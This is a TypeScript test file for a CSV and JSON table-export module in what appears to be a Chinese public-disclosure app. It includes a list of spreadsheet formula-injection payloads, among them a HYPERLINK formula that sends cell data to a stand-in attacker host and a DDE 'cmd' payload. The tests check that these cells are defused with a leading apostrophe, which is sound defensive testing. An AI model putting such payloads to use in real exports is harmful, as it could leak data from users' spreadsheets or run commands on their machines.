import express from 'express';
import { describe, expect, it } from 'vitest';
import { en } from '../i18n/en.js';
import { zh } from '../i18n/zh.js';
import { parseCsv } from '../test-support/csv.js';
import { attachmentOf, type Column, csvCell, csvOf, jsonOf, sendTable } from './tables.js';

interface Row {
  readonly id: string;
  readonly title: string;
  readonly n: number;
  readonly late: boolean;
  readonly at: string | null;
}

const columns: readonly Column<Row>[] = [
  { key: 'id', header: (m) => (m === zh ? '编号' : 'Id'), value: (r) => r.id },
  { key: 'title', header: (m) => m.disclosure.title, value: (r) => r.title },
  { key: 'count', header: () => 'n', value: (r) => r.n },
  { key: 'overdue', header: (m) => m.disclosure.overdue, value: (r) => r.late },
  { key: 'closedAt', header: () => 'closed', value: (r) => r.at },
];

const crafted = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe('csvCell', () => {
  it.each(crafted)('defuses a formula-looking cell %j with a leading apostrophe', (value) => {
    expect(csvCell(value)).toBe(`'${value}`);
  });

  it('leaves ordinary text, numbers, booleans alone and writes null as empty', () => {
    expect(csvCell('修缮 3 号楼=楼道灯')).toBe('修缮 3 号楼=楼道灯');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
  });
});

describe('csvOf', () => {
  const rows: Row[] = [
    { id: 'P-1', title: crafted[0] as string, n: 3, late: true, at: '2026-11-30T10:00:00+08:00' },
    { id: 'P-2', title: '楼道灯, 坏了\n"两周"', n: -1, late: false, at: null },
  ];

  it('writes a BOM, localised headers and cells that read back exactly (except the defused one)', () => {
    const { bom, records } = parseCsv(csvOf(columns, rows, zh));
    expect(bom).toBe(true);
    expect(records[0]).toEqual(['编号', '事项', 'n', '超期', 'closed']);
    expect(records[1]).toEqual(['P-1', `'${crafted[0]}`, '3', 'true', '2026-11-30T10:00:00+08:00']);
    expect(records[2]).toEqual(['P-2', '楼道灯, 坏了\n"两周"', '-1', 'false', '']);
    expect(parseCsv(csvOf(columns, rows, en)).records[0]).toEqual(['Id', 'Item', 'n', 'Overdue', 'closed']);
  });

  it('separates records with CRLF', () => {
    expect(csvOf(columns, rows.slice(0, 1), zh).split('\r\n')).toHaveLength(3);
  });
});

describe('jsonOf and sendTable', () => {
  it('keys rows by the columns English keys and keeps the raw values', () => {
    const row: Row = { id: 'P-1', title: '=1', n: 2, late: false, at: null };
    expect(jsonOf({ name: 't', columns, rows: [row], asOf: '2026-12-01T09:00:00+08:00', m: zh })).toEqual({
      asOf: '2026-12-01T09:00:00+08:00',
      count: 1,
      rows: [{ id: 'P-1', title: '=1', count: 2, overdue: false, closedAt: null }],
    });
  });

  it('names the attachment in ASCII in both RFC 6266 forms', () => {
    expect(attachmentOf('公示 disclosure-2026-12-01.csv')).toBe(
      `attachment; filename="___disclosure-2026-12-01.csv"; filename*=UTF-8''___disclosure-2026-12-01.csv`,
    );
  });

  it('answers with the content type, attachment, cache headers and an ETag', async () => {
    const app = express();
    const rows: Row[] = [{ id: 'P-1', title: '灯', n: 1, late: false, at: null }];
    app.get('/t.csv', (_req, res) =>
      sendTable(res, 'csv', { name: 'disclosure-problems', columns, rows, asOf: '2026-12-01T09:00:00+08:00', m: zh }),
    );
    app.get('/t.json', (_req, res) =>
      sendTable(res, 'json', {
        name: 'disclosure-problems',
        columns,
        rows,
        asOf: '2026-12-01T09:00:00+08:00',
        m: zh,
        capped: { limit: 1, total: 7 },
      }),
    );
    const server = app.listen(0);
    try {
      const port = (server.address() as { port: number }).port;
      const csv = await fetch(`http://127.0.0.1:${port}/t.csv`);
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(csv.headers.get('content-disposition')).toContain('filename="disclosure-problems-2026-12-01.csv"');
      expect(csv.headers.get('cache-control')).toContain('max-age=');
      expect(csv.headers.get('etag')).toBeTruthy();
      const bytes = new Uint8Array(await csv.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const json = await fetch(`http://127.0.0.1:${port}/t.json`);
      expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(json.headers.get('x-export-capped')).toBe('1 of 7 rows');
      expect(await json.json()).toMatchObject({ count: 1, capped: { limit: 1, total: 7 } });
    } finally {
      server.close();
    }
  });
});
